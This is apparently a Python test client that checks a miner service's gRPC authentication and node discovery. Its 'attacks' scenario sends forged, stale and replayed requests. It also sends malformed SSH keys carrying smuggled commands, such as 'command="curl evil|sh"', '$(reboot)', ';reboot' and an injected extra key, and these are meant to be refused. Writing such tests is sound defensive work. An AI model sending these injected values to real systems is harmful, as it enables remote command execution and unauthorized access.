#!/usr/bin/env python3
"""An independent validator for basilica-miner tests: grpcio stubs compiled from proto/ and
signatures made by the real bittensor-wallet package. Prints one JSON object on stdout.

usage: validator_client.py ENDPOINT MINER_HOTKEY VALIDATOR_URI PUBKEY_FILE SCENARIO
scenarios: flow (authenticate + discover), attacks (hostile inputs, each must be refused),
           discover (discover only), burst:N (N concurrent DiscoverNodes)
VALIDATOR_TLS_CA=cert.pem in the environment makes it connect with TLS trusting that certificate.
"""
import json
import os
import sys
import shutil
import tempfile
import time
import uuid
from concurrent.futures import ThreadPoolExecutor

import grpc
from grpc_tools import protoc
from bittensor_wallet import Keypair

HERE = os.path.dirname(os.path.abspath(__file__))
PROTO = os.path.join(HERE, "..", "..", "proto")


def stubs():
    out = tempfile.mkdtemp(prefix="bm-stubs-")
    import grpc_tools
    well_known = os.path.join(os.path.dirname(grpc_tools.__file__), "_proto")
    for f in ["basilca/common/v1/common.proto", "basilca/miner/v1/miner.proto"]:
        rc = protoc.main(["protoc", f"-I{PROTO}", f"-I{well_known}", f"--python_out={out}", f"--grpc_python_out={out}", os.path.join(PROTO, f)])
        if rc != 0:
            raise SystemExit(f"protoc failed on {f}")
    for d in ["basilca", "basilca/common", "basilca/common/v1", "basilca/miner", "basilca/miner/v1"]:
        open(os.path.join(out, d, "__init__.py"), "a").close()
    sys.path.insert(0, out)
    from basilca.miner.v1 import miner_pb2, miner_pb2_grpc
    from basilca.common.v1 import common_pb2
    # Imported: the generated files are no longer needed (nothing is left in /tmp per run).
    shutil.rmtree(out, ignore_errors=True)
    return miner_pb2, miner_pb2_grpc, common_pb2


miner_pb2, miner_pb2_grpc, common_pb2 = stubs()


def ts(seconds):
    t = common_pb2.Timestamp()
    t.value.seconds = int(seconds)
    return t


def auth_request(key, target, nonce=None, when=None, sign_with=None, payload_target=None):
    nonce = nonce or str(uuid.uuid4())
    when = int(time.time()) if when is None else when
    payload = f"BASILICA_AUTH_V1:{nonce}:{payload_target or target}:{when}"
    sig = (sign_with or key).sign(payload.encode()).hex()
    return miner_pb2.ValidatorAuthRequest(validator_hotkey=key.ss58_address, signature=sig, nonce=nonce, timestamp=ts(when), target_miner_hotkey=target)


def discover_request(key, target, pubkey, nonce=None, when=None, sign_with=None, hotkey=None):
    nonce = nonce or str(uuid.uuid4())
    when = int(time.time()) if when is None else when
    hotkey = hotkey or key.ss58_address
    payload = f"BASILICA_DISCOVER_V1:{hotkey}:{nonce}:{when}"
    sig = (sign_with or key).sign(payload.encode()).hex()
    return miner_pb2.DiscoverNodesRequest(validator_hotkey=hotkey, signature=sig, nonce=nonce, validator_public_key=pubkey, timestamp=ts(when), target_miner_hotkey=target)


def verify_miner(resp, validator_hotkey):
    if not resp.authenticated:
        return False
    payload = f"MINER_AUTH_RESPONSE:{validator_hotkey}:{resp.response_nonce}:{resp.session_token}"
    return Keypair(ss58_address=resp.miner_hotkey).verify(payload.encode(), bytes.fromhex(resp.miner_signature))


def call(fn, req, timeout=120):
    try:
        return {"ok": True, "resp": fn(req, timeout=timeout)}
    except grpc.RpcError as e:
        return {"ok": False, "code": e.code().name, "details": e.details()}


def main():
    endpoint, miner_hotkey, validator_uri, pubkey_file, scenario = sys.argv[1:6]
    key = Keypair.create_from_uri(validator_uri)
    pubkey = open(pubkey_file).read().strip()
    options = [("grpc.max_send_message_length", 4 * 1024 * 1024)]
    ca = os.environ.get("VALIDATOR_TLS_CA")
    if ca:
        creds = grpc.ssl_channel_credentials(root_certificates=open(ca, "rb").read())
        channel = grpc.secure_channel(endpoint, creds, options=options)
    else:
        channel = grpc.insecure_channel(endpoint, options=options)
    stub = miner_pb2_grpc.MinerDiscoveryStub(channel)
    out = {"validator": key.ss58_address}

    if scenario == "flow":
        a = stub.AuthenticateValidator(auth_request(key, miner_hotkey), timeout=30)
        out["authenticated"] = a.authenticated
        out["error"] = a.error.code if a.HasField("error") else None
        out["miner_hotkey"] = a.miner_hotkey
        out["miner_signature_valid"] = verify_miner(a, key.ss58_address)
        out["session_token_len"] = len(a.session_token)
        out["expires_in"] = a.expires_at.value.seconds - int(time.time())
        d = stub.DiscoverNodes(discover_request(key, miner_hotkey, pubkey), timeout=120)
        out["nodes"] = [{"node_id": n.node_id, "host": n.host, "port": n.port, "username": n.username, "status": n.status, "hourly_rate_cents": n.hourly_rate_cents,
                         "gpu_model": n.gpu_spec.model, "gpu_memory_mb": n.gpu_spec.memory_mb} for n in d.nodes]
    elif scenario == "discover":
        r = call(stub.DiscoverNodes, discover_request(key, miner_hotkey, pubkey))
        out["result"] = {"ok": r["ok"], "nodes": len(r["resp"].nodes)} if r["ok"] else r
    elif scenario.startswith("burst"):
        n = int(scenario.split(":")[1])
        with ThreadPoolExecutor(max_workers=n) as ex:
            results = list(ex.map(lambda _: call(stub.DiscoverNodes, discover_request(key, miner_hotkey, pubkey)), range(n)))
        out["ok"] = sum(1 for r in results if r["ok"])
        out["codes"] = sorted(set(r.get("code", "OK") for r in results))
        out["node_counts"] = sorted(set(len(r["resp"].nodes) for r in results if r["ok"]))
    elif scenario == "attacks":
        other = Keypair.create_from_uri("//Mallory")
        now = int(time.time())
        auth = {}
        auth["wrong_target"] = auth_request(key, other.ss58_address)
        auth["signed_by_other_key"] = auth_request(key, miner_hotkey, sign_with=other)
        auth["stale_timestamp"] = auth_request(key, miner_hotkey, when=now - 301)
        auth["future_timestamp"] = auth_request(key, miner_hotkey, when=now + 400)
        r = auth_request(key, miner_hotkey); r.ClearField("timestamp"); auth["no_timestamp"] = r
        r = auth_request(key, miner_hotkey); r.signature = ""; auth["no_signature"] = r
        r = auth_request(key, miner_hotkey); r.signature = "zz" * 64; auth["garbage_signature"] = r
        r = auth_request(key, miner_hotkey); r.validator_hotkey = "5InvalidSS58Address"; auth["invalid_ss58"] = r
        auth["no_permit"] = auth_request(other, miner_hotkey)
        replay = auth_request(key, miner_hotkey)
        first = stub.AuthenticateValidator(replay, timeout=30)
        out["replay_first_ok"] = first.authenticated
        auth["replayed_nonce"] = replay
        out["auth"] = {}
        for name, req in auth.items():
            resp = stub.AuthenticateValidator(req, timeout=30)
            out["auth"][name] = {"authenticated": resp.authenticated, "code": resp.error.code if resp.HasField("error") else None}

        keys = {
            "newline": pubkey + "\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvilEvilEvilEvilEvilEvilEvilEvilEvilEvilEv evil",
            "command_option": 'command="curl evil|sh" ' + pubkey,
            "shell_payload": "ssh-ed25519 $(reboot);' validator",
            "semicolon": pubkey.split()[0] + " " + pubkey.split()[1] + ";reboot",
            "dss": "ssh-dss AAAAB3NzaC1kc3MAAACBAP8= x",
            "short_rsa": open(pubkey_file + ".rsa1024").read().strip(),
            "type_mismatch": "ssh-rsa " + pubkey.split()[1],
            "huge": "ssh-ed25519 " + "A" * (1 << 20),
            "empty": "",
        }
        out["keys"] = {}
        for name, k in keys.items():
            r = call(stub.DiscoverNodes, discover_request(key, miner_hotkey, k))
            out["keys"][name] = r.get("code", "OK")
        disc = {}
        disc["bad_signature"] = discover_request(key, miner_hotkey, pubkey, sign_with=other)
        disc["stale"] = discover_request(key, miner_hotkey, pubkey, when=now - 1000)
        disc["wrong_target"] = discover_request(key, other.ss58_address, pubkey)
        disc["impersonation"] = discover_request(other, miner_hotkey, pubkey, hotkey=key.ss58_address)
        disc["no_permit"] = discover_request(other, miner_hotkey, pubkey)
        rep = discover_request(key, miner_hotkey, pubkey)
        out["discover_replay_first"] = call(stub.DiscoverNodes, rep)["ok"]
        disc["replayed_nonce"] = rep
        out["discover"] = {name: call(stub.DiscoverNodes, req).get("code", "OK") for name, req in disc.items()}
        big = discover_request(key, miner_hotkey, "x" * (200 * 1024))
        out["discover"]["oversized"] = call(stub.DiscoverNodes, big).get("code", "OK")
    print(json.dumps(out))


if __name__ == "__main__":
    main()
